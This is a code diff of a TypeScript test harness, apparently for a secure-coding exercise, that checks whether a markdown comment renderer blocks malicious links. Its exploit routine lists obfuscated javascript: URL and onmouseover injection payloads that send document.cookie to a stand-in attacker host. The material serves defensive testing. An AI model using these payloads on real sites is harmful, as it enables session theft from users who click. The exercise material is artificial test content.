@@ -5,15 +5,19 @@ import type { Breach, Vary } from '#proof/vary'
 
 type Code = typeof import('./typescript/render-comment.ts')
 
-const render = ({ renderComment }: Code, source: string, author = 'Ada') =>
-  renderComment({ id: 12, author, writtenAt: new Date(0), source })
+const render = ({ renderComment }: Code, source: string, vary: Vary, author = vary.name()) =>
+  renderComment({ id: vary.number(1, 999), author, writtenAt: new Date(vary.number(0, 1e12)), source })
+
+/** What the text of a link may be, for everybody. */
+const createLabel = (vary: Vary) => vary.pick([`${vary.name()}'s guide`, 'release notes', `the ${vary.word()}`])
 
 export async function works(code: Code, vary: Vary) {
-  const label = `${vary.name()}'s guide`
-  const address = `https://example.com/${vary.word()}?a=${vary.number(1, 9)}&b=javascript:`
+  const label = createLabel(vary)
+  const path = vary.pick([vary.word(), `javascript:${vary.word()}`, `location=${vary.word()}+document.cookie`])
+  const address = `https://${vary.pick(['', `${vary.word()}.`])}example.com/${path}?a=${vary.number(1, 9)}&b=javascript:`
   const person = `${vary.word()}-h`
   const author = `${vary.name()} <${vary.word()}@example.com>`
-  const html = await render(code, `See [${label}](${address}), \`a<b>\` and\nask @${person}.\n\n<b>Bye</b>`, author)
+  const html = await render(code, `See [${label}](${address}), \`a<b>\` and\nask @${person}.\n\n<b>Bye</b>`, vary, author)
   const tags = tagsOf(html)
   const links = tags.filter(({ name }) => name === 'a').map(({ attributes, text }) => [attributes.href, text])
   assert.deepEqual(links[0], [address, label], `"${label}" should link to ${address}.`)
@@ -38,32 +42,33 @@ function run(script: string, cookie: string): string {
   return page.location
 }
 
-const formsOf = (steal: string) => [
+const formsOf = (steal: string, host: string) => [
   `javascript:${steal}`,
   `JavaScript:${steal}`,
   `\u0001javascript:${steal}`,
   `\u0000\u001fjavascript:${steal}`,
-  `javascript://example.com/%0a${steal}`,
-  `JAVASCRIPT://https://example.com/%0a${steal}`,
-  `javascript:/*https://example.com/*/${steal}`,
+  `javascript://${host}/%0a${steal}`,
+  `JAVASCRIPT://https://${host}/%0a${steal}`,
+  `javascript:/*https://${host}/*/${steal}`,
   `javascript:'https://';${steal}`,
   `javascript&colon;${steal}`,
-  `https://example.com/"onmouseover="${steal}`,
-  `https://example.com/'onmouseover='${steal.replaceAll("'", '`')}`,
+  `https://${host}/"onmouseover="${steal}`,
+  `https://${host}/'onmouseover='${steal.replaceAll("'", '`')}`,
 ]
 
 export async function exploit(code: Code, vary: Vary, payloads?: readonly string[]): Promise<false | Breach> {
   const cookie = `session=${vary.text(12)}`
-  for (const target of payloads ?? formsOf(`location='https://${vary.word()}.example/?'+document.cookie`)) {
-    const comment = `See the [release notes](${target})`
+  const host = `${vary.pick(['', `${vary.word()}.`])}example.com`
+  for (const target of payloads ?? vary.shuffle(formsOf(`location='https://${vary.word()}.example/?'+document.cookie`, host))) {
+    const comment = `${vary.pick(['See', vary.word()])} [${createLabel(vary)}](${target})`
     let scripts: string[] = []
     try {
-      scripts = scriptsOf(await render(code, comment))
+      scripts = scriptsOf(await render(code, comment, vary))
     } catch {
       // Refused; the next form may be not.
     }
     const opened = scripts.map((script) => run(script, cookie)).find((address) => address.endsWith(cookie))
-    if (opened) return { sent: comment, got: `A click opens ${opened}` }
+    if (opened) return { sent: `the comment ${JSON.stringify(comment)}`, got: `a page in which a click opens ${opened}`, damage: 'The script in the address has read the cookie of whoever clicked, and sends their session to the attacker.' }
   }
   return false
 }
@@ -80,7 +85,7 @@ function isComplete(script: string): boolean {
 }
 
 // Attack mode: the learner writes the input.
-export async function attack({ renderComment }: Code, input: { comment: string }, vary: import('#proof/vary').Vary) {
+export async function attack({ renderComment }: Code, input: { comment: string }, vary: Vary) {
   try {
     const html = await renderComment({ id: vary.number(10, 99), author: vary.name(), writtenAt: new Date(0), source: input.comment })
     const scripts = scriptsOf(html)
